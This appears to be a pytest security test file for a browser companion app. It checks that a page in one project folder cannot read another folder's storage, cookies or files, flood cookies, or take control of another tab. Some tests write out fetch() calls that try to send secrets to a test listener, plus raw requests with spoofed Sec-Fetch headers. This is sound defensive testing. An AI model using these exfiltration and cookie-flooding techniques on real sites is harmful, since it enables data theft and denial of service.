"""Pages of one folder try to reach what pages of another folder have, the surface, and other servers of this machine.

In both kinds of browser: one that lets frames of other sites store data, and one that blocks it, in which sites have no
service worker and the companion passes their requests on.
"""

from __future__ import annotations

import contextlib
import json
import socket
from collections.abc import Generator, Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from gemini_companion.browser.profile import let_sites_store
from gemini_companion.serving.app import Companion
from gemini_testing import Surface
from gemini_testing.browser import SCRIPT_TIMEOUT_S, launch
from gemini_testing.errors import PythonFailed, ToolCallFailed
from gemini_testing.plugin import OpenSurface
from gemini_testing.pool import BrowserPool
from gemini_testing.server import Server, running, server_of_kernel, server_of_sites
from tests.attacks.listener import Listener, fenced_listener
from tests.attacks.site_escapes import PRELUDE
from tests.attacks.site_neighbours import (
    BOMB,
    CONTROL,
    COOKIES,
    NOWHERE,
    OWN,
    PAGE,
    PLANT,
    READS,
    SECRET,
    SENT,
    SHARED,
    STORED,
)
from tests.attacks.site_network import allow, revoke
from tests.companions import CONNECTED, companion_of, opened_by
from tests.tiers import sampled
from tests.web.agent import close_tabs, show_tab
from tests.web.person import Background, Person
from tests.web.site import Site

# Of a server in the page.
SERVER = 8207


@dataclass
class Pages:
    """A page of each of two folders, in tabs of their own, and what they are in."""

    site: Site
    a: str
    b: str
    origin: str
    stores: bool

    def run(self, tab: str, expression: str) -> str:
        """Return what an expression says in a page."""
        self.site.tab = tab
        self.site.surface.driver.set_script_timeout(20)
        try:
            prelude = PRELUDE.replace("const [out, udp] = arguments;", "const [A, out] = arguments;")
            return str(self.site.run(f"{prelude} return String({expression})", self.origin, ""))
        finally:
            self.site.surface.driver.set_script_timeout(SCRIPT_TIMEOUT_S)


@pytest.fixture(scope="module")
def outside() -> Iterator[Listener]:
    with fenced_listener() as listener:
        yield listener


@pytest.fixture(scope="module")
def companion(surface_dist: Path) -> Iterator[Companion]:
    with companion_of(surface_dist) as companion:
        yield companion


@pytest.fixture(
    scope="module",
    params=[True, pytest.param(False, marks=pytest.mark.fortnightly(together="blocked"))],
    ids=["stores", "blocked"],
)
def stores(request: pytest.FixtureRequest) -> bool:
    return request.param


@pytest.fixture(scope="module")
def surface_of_module(companion: Companion, browsers: BrowserPool, stores: bool) -> Iterator[Surface]:
    with opened_by(companion, browsers, third_party_storage=stores) as surface:
        yield surface


def written(surface: Surface) -> None:
    for name, text in (("a", SECRET), ("b", OWN)):
        files = {
            "index.html": PAGE.replace("TEXT", text),
            "secret.txt": text,
            "secret.js": f"globalThis.stolen = '{text}'",
            "secret.css": f"body {{ --secret: {text} }}",
            "shared.js": SHARED,
        }
        for file, content in files.items():
            surface.call("file_write", path=f"/project/{name}/{file}", content=content)


@pytest.fixture
def pages(surface: Surface, stores: bool) -> Iterator[Pages]:
    """Open both pages, the second of which attacks."""
    written(surface)
    site = Site(surface)
    a = site.open_beside("/project/a/index.html")
    origin = site.run("return location.origin")
    site.run(PLANT, SECRET)
    b = site.open_beside("/project/b/index.html")
    yield Pages(site, a, b, origin, stores)
    close_tabs(surface)


def test_each_folder_has_an_origin_of_its_own(pages: Pages, companion: Companion) -> None:
    origins = [pages.run(tab, "location.origin") for tab in (pages.a, pages.b)]
    hosts = [urlsplit(origin).hostname or "" for origin in origins]
    assert origins[0] != origins[1]
    assert all(host.endswith(".localhost") for host in hosts)
    assert pages.run(pages.b, "navigator.serviceWorker?.controller !== null") == str(pages.stores).lower()
    for tab, text in ((pages.a, SECRET), (pages.b, OWN)):
        assert pages.run(tab, "await (await fetch('secret.txt')).text()") == text


@pytest.mark.parametrize("read", sampled(READS, every=24))
def test_a_page_reads_nothing_of_another_folder(pages: Pages, read: str) -> None:
    found = pages.run(pages.b, READS[read])
    assert SECRET not in found
    # The page itself finds it, so the attack looks at the right place.
    if read not in NOWHERE and (pages.stores or read not in STORED):
        assert SECRET in pages.run(pages.a, READS[read])


@pytest.mark.fortnightly
def test_a_page_takes_no_control_of_another_one(pages: Pages, surface: Surface) -> None:
    ask = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "text", "params": {}})
    assert SECRET not in pages.run(pages.b, CONTROL.replace("ASK", json.dumps(ask)))
    # The surface does.
    assert SECRET in surface.call("browser_get_text", tab=pages.a)["text"]


NEXT = {
    "local-storage": "String(globalThis.localStorage?.secret)",
    "session-storage": "String(globalThis.sessionStorage?.secret)",
    "cookie": READS["cookie"],
    "window": READS["window"],
    "file": "await (await fetch('/project/a/secret.txt')).text()",
    "history": "(() => { history.back(); return '' })()",
}


@pytest.mark.parametrize("left", sampled(NEXT, every=8))
def test_a_left_page_leaves_nothing_to_the_next_one_in_its_tab(
    pages: Pages, surface: Surface, left: str
) -> None:
    surface.call("browser_navigate", tab=pages.a, url="/project/b/index.html")
    pages.site.tab = pages.a
    assert pages.run(pages.a, "document.body.innerText") == OWN
    assert SECRET not in pages.run(pages.a, NEXT[left])
    assert surface.call("browser_get_text", tab=pages.a)["text"].strip() == OWN
    # The page itself still has it.
    surface.call("browser_navigate", tab=pages.a, url="/project/a/index.html")
    if left == "local-storage" and pages.stores:
        assert pages.run(pages.a, NEXT[left]) == SECRET


def visit(surface: Surface, url: str) -> None:
    """Open a page in a separate window, as a user does."""
    driver, here = surface.driver, surface.driver.current_window_handle
    driver.switch_to.new_window("tab")
    driver.get(url)
    driver.close()
    driver.switch_to.window(here)


@pytest.mark.parametrize("attribute", sampled(COOKIES, every=8))
def test_no_cookie_of_a_page_reaches_another_server(
    pages: Pages, surface: Surface, companion: Companion, outside: Listener, attribute: str
) -> None:
    pages.run(pages.b, f"(document.cookie = {COOKIES[attribute]!r})")
    pages.run(
        pages.b,
        "Promise.allSettled(['localhost', '127.0.0.1', '.localhost'].map((domain) => "
        "cookieStore.set({ name: 'evil', value: '2', domain, sameSite: 'none' })))",
    )
    outside.cookies.clear()
    for host in ("127.0.0.1", "localhost", "x.localhost"):
        visit(surface, f"http://{host}:{outside.server_port}/visited")
    assert "/visited" in outside.seen
    assert [each for each in outside.cookies if "evil" in each] == []
    # A page of the same host can, so the listener would have seen it.
    visit(surface, f"http://127.0.0.1:{outside.server_port}/sets-cookie")
    visit(surface, f"http://127.0.0.1:{outside.server_port}/visited")
    assert f"127.0.0.1:{outside.server_port} of=the-host" in outside.cookies


def opens(surface: Surface) -> None:
    surface.load()
    surface.wait_for("document.querySelector('#status-companion').innerText === 'Companion'")
    assert surface.python("6 * 7") == 42


@pytest.mark.extended
def test_a_page_s_cookies_keep_nobody_out(pages: Pages, surface: Surface) -> None:
    for more in ("", "; SameSite=None; Secure", "; SameSite=None; Secure; Partitioned"):
        pages.run(pages.b, f"(() => {{ {BOMB % more} }})()")
    opens(surface)
    # Nor out of its own site.
    written(surface)
    assert pages.site.open("/project/b/index.html")["title"] == "Page"


@pytest.mark.fortnightly
@pytest.mark.parametrize("port", sampled(["main", "kernel", "sites"]))
def test_another_server_s_cookies_keep_nobody_out(
    surface: Surface, companion: Companion, outside: Listener, port: str
) -> None:
    driver, here = surface.driver, surface.driver.current_window_handle
    driver.switch_to.new_window("tab")
    driver.get(f"http://127.0.0.1:{outside.server_port}/")
    driver.execute_script(BOMB % "")
    # Chromium stores 180 for each host, and each server of the host gets them.
    assert driver.execute_script("return document.cookie.length") > 100_000
    number = getattr(companion._server, port).number  # pyright: ignore[reportPrivateUsage]
    driver.get(f"http://127.0.0.1:{number}/{'' if port == 'main' else 'host.html'}")
    assert "Invalid HTTP" not in driver.page_source
    assert driver.execute_script("return document.cookie") == ""
    driver.close()
    driver.switch_to.window(here)
    opens(surface)


def heard(outside: Listener) -> list[str]:
    """Return what arrived. The companion's page can't reach the fence, but these tests await each request."""
    received, outside.seen = outside.seen, []
    return received


@pytest.mark.extended
def test_a_host_that_one_folder_may_reach_gets_nothing_of_another(
    pages: Pages, surface: Surface, outside: Listener
) -> None:
    person, send = (
        Person(surface),
        f"await fetch('{outside.url}/' + encodeURIComponent(TEXT), {{ mode: 'no-cors' }})",
    )
    if not surface.javascript("return document.querySelector('#browser-network').checkVisibility()"):
        person.open_panel("browser")
    allow(pages.site, person, outside)
    heard(outside)
    for read in SENT:
        found = pages.run(pages.b, READS[read])
        pages.run(pages.b, send.replace("TEXT", json.dumps(found)))
    pages.run(pages.b, send.replace("TEXT", "await (await fetch('secret.txt')).text()"))
    received = heard(outside)
    # Its own file may leave now.
    assert f"/{OWN}" in received
    assert not [each for each in received if SECRET in each]
    # The other folder's page is as cut off as before.
    pages.run(pages.a, f"await fetch('{outside.url}/{SECRET}', {{ mode: 'no-cors' }})")
    # The other page's connection may be new.
    assert [each for each in heard(outside) if each != "connection"] == []
    pages.site.tab = pages.b
    show_tab(surface, pages.b)
    revoke(surface, person)


ASKED = (
    "GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n{more}\r\n",
    "Sec-Fetch-Site: cross-site\r\nSec-Fetch-Mode: no-cors\r\nSec-Fetch-Dest: script\r\n",
    "Sec-Fetch-Site: cross-site\r\nSec-Fetch-Mode: navigate\r\nSec-Fetch-Dest: document\r\n",
    "Sec-Fetch-Site: same-site\r\nSec-Fetch-Mode: cors\r\nSec-Fetch-Dest: empty\r\n",
    "",
)


@pytest.mark.fortnightly
def test_other_programs_and_pages_read_no_folder(pages: Pages, companion: Companion) -> None:
    """Even with the site's name, a secret of 128 bits, only frames and the site itself read its files."""
    number = companion._server.sites.number  # pyright: ignore[reportPrivateUsage]
    label = urlsplit(pages.origin).hostname or ""

    def said(host: str, more: str) -> str:
        with socket.create_connection(("127.0.0.1", number), timeout=30) as client:
            request = ASKED[0].format(path="/project/a/secret.txt", host=f"{host}:{number}", more=more)
            client.sendall(request.encode())
            return client.makefile("rb").read().decode("latin-1")

    other = f"{'0' * 32}.localhost"
    for more in ASKED[1:]:
        for host in (label, other, "127.0.0.1", "localhost", f"n{'0' * 32}.localhost"):
            assert SECRET not in said(host, more), (host, more)
    own = "Sec-Fetch-Site: same-origin\r\nSec-Fetch-Mode: cors\r\nSec-Fetch-Dest: empty\r\n"
    assert SECRET not in said(other, own)
    # Without a service worker, the companion answers the site itself.
    assert (SECRET in said(label, own)) is not pages.stores


PYTHON = {
    "serve": "await kernel.host.ask_companion('sites/serve', {'label': 'LABEL'})",
    "leave": "await kernel.host.ask_companion('sites/leave', {'label': 'LABEL'})",
    "request": "await kernel.host.ask_companion('sites/request', {'label': 'LABEL', 'path': '/project/a/secret.txt'})",
}


@pytest.mark.parametrize("request_of", sampled(PYTHON))
def test_python_serves_and_ends_no_site(pages: Pages, surface: Surface, request_of: str) -> None:
    label = (urlsplit(pages.origin).hostname or "").partition(".")[0]
    code = "from gemini.kernel.kernel import kernel\n" + PYTHON[request_of].replace("LABEL", label)
    with pytest.raises(PythonFailed):
        surface.python(code)
    assert pages.run(pages.a, "await (await fetch('secret.txt')).text()") == SECRET


@pytest.mark.extended
def test_a_static_host_asks_before_a_page_shares_the_surface_s_origin(open_surface: OpenSurface) -> None:
    """There the browser that blocks storage leaves no origin for each, and nobody passes requests on."""
    surface = open_surface(third_party_storage=False)
    written(surface)
    site, person = Site(surface), Person(surface)
    opening = Background(surface, "browser_navigate", {"url": "/project/a/index.html"})
    person.sees("#approval", "/project/a/index.html")
    person.click("#approval-once")
    site.tab = opening.result()["tab"]
    assert site.run("return location.origin") == surface.javascript("return location.origin")
    # Network isn't for pages that share an origin.
    person.open_panel("browser")
    person.sees("#browser-network")
    assert surface.javascript("return document.querySelector('#browser-network').disabled") is True
    surface.javascript("document.querySelector('#browser-network').disabled = false")
    person.click("#browser-network")
    assert surface.javascript("return document.querySelector('#browser-network').ariaPressed") == "false"


@contextlib.contextmanager
def silent_companion(dist: Path, sites: str | None = None) -> Generator[str]:
    """Serve a surface whose companion passes nothing on: its page isn't connected. Yield the URL."""
    server = Server(dist)
    server.folder.network = True
    with running(server), running(server_of_sites(server)), running(server_of_kernel(server)):
        server.folder.sites = sites or server.folder.sites
        yield server.url


REFUSED = {
    # The missing feature, and the button to press.
    "blocked": (False, None, "store nothing", "Allow third-party cookies for http://127.0.0.1:"),
    "unreachable": (
        True,
        "http://*.localhost:1/",
        "doesn't reach http://",
        "Use a browser that opens names below localhost",
    ),
}


@pytest.mark.fortnightly
@pytest.mark.parametrize("case", sampled(REFUSED))
def test_a_companion_s_pages_never_share_an_origin(
    surface_dist: Path, browsers: BrowserPool, case: str
) -> None:
    stores, sites, why, hint = REFUSED[case]
    with silent_companion(surface_dist, sites) as url:
        surface = Surface(browsers.take(url, third_party_storage=stores), url)
        try:
            surface.load()
            written(surface)
            surface.python(
                f"import asyncio\nserver = await asyncio.start_server(lambda *_: None, '127.0.0.1', {SERVER})"
            )
            for address in ("/project/a/index.html", f"http://localhost:{SERVER}/"):
                with pytest.raises(ToolCallFailed) as refused:
                    surface.call("browser_navigate", url=address)
                assert refused.value.type == "Unsupported", address
                assert why in refused.value.message
                assert hint in (refused.value.hint or "")
            assert surface.javascript("return [...document.querySelectorAll('.tab-frame')].length") == 0
        finally:
            browsers.give_back(surface.driver)


@pytest.mark.fortnightly
@pytest.mark.parametrize("allowed", sampled([False, True]))
def test_the_companion_s_window_lets_sites_store(
    companion: Companion, browsers: BrowserPool, tmp_path: Path, allowed: bool
) -> None:
    """Its profile allows what a browser with these settings blocks."""
    if allowed:
        let_sites_store(tmp_path)
    driver = launch(profile=tmp_path, third_party_storage=False)
    try:
        surface = Surface(driver, companion.entrance.address())
        surface.load()
        surface.wait_for(CONNECTED)
        written(surface)
        site = Site(surface)
        site.open("/project/a/index.html")
        stored = site.run(
            "localStorage.secret = 'x'; return [localStorage.secret, navigator.serviceWorker.controller !== null]"
        )
        assert (stored == ["x", True]) is allowed
        assert site.run("return (await fetch('secret.txt')).ok") is True
    finally:
        driver.quit()
